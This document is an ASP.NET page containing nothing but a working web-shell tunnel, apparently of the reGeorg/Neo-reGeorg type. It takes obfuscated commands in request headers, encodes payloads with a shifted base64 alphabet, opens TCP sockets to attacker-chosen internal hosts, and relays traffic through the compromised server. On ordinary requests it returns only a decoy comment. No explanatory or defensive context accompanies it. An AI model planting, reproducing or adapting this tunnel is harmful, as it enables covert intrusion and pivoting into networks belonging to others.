<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    public static string StrTr(string input, string frm, string to) {
        string r = "";
        for (int i = 0; i < input.Length; i++) { int index = frm.IndexOf(input[i]); if (index != -1) r += to[index]; else r += input[i]; }
        return r;
    }
</script>
<%
    String en = "BCDEFGHIJKLMNOPQRSTUVWXYZAbcdefghijklmnopqrstuvwxyza0123456789+/";
    String de = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    try {
        if (Request.HttpMethod == "POST") {
            String cmd = Request.Headers.Get("Ffydm");
            if (cmd != null) {
                String mark = cmd.Substring(0, 22);
                cmd = cmd.Substring(22);
                if (cmd == "CONNECT") {
                    String target_str = System.Text.Encoding.Default.GetString(Convert.FromBase64String(StrTr(Request.Headers.Get("Xgdzh"), en, de)));
                    String[] target_ary = target_str.Split('|');
                    String target = target_ary[0];
                    int port = int.Parse(target_ary[1]);
                    IPAddress ip = IPAddress.Parse(target);
                    System.Net.IPEndPoint remoteEP = new IPEndPoint(ip, port);
                    Socket sender = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
                    sender.Connect(remoteEP);
                    sender.Blocking = false;
                    Application[mark] = sender;
                    Response.AddHeader("Mpzqo", "jLkr");
                } else if (cmd == "DISCONNECT") {
                    try { Socket s = (Socket)Application[mark]; s.Close(); } catch { }
                    Application.Remove(mark);
                } else if (cmd == "FORWARD") {
                    Socket s = (Socket)Application[mark];
                    int buffLen = Request.ContentLength;
                    byte[] buff = new byte[buffLen];
                    int c = 0;
                    while ((c = Request.InputStream.Read(buff, 0, buff.Length)) > 0) {
                        string b64 = StrTr(System.Text.Encoding.Default.GetString(buff), en, de);
                        s.Send(Convert.FromBase64String(b64));
                    }
                    Response.AddHeader("Mpzqo", "jLkr");
                } else if (cmd == "READ") {
                    Socket s = (Socket)Application[mark];
                    int maxRead = 524288; int readbuflen = 513;
                    byte[] readBuff = new byte[readbuflen];
                    int c = 0;
                    try {
                        while ((c = s.Receive(readBuff)) > 0) {
                            byte[] newBuff = new byte[c];
                            System.Buffer.BlockCopy(readBuff, 0, newBuff, 0, c);
                            Response.BinaryWrite(System.Text.Encoding.Default.GetBytes(StrTr(Convert.ToBase64String(newBuff), de, en)));
                            if (--maxRead <= 0) break;
                        }
                    } catch (SocketException) { }
                    Response.AddHeader("Mpzqo", "jLkr");
                }
            }
        } else {
            Response.Write("<!-- hbAwzvyHbzuo3aKx6qWw1Eycc4d8jcvqVaYRsxXn7c2d -->");
        }
    } catch (Exception ex) { Response.AddHeader("Error", ex.Message); }
%>
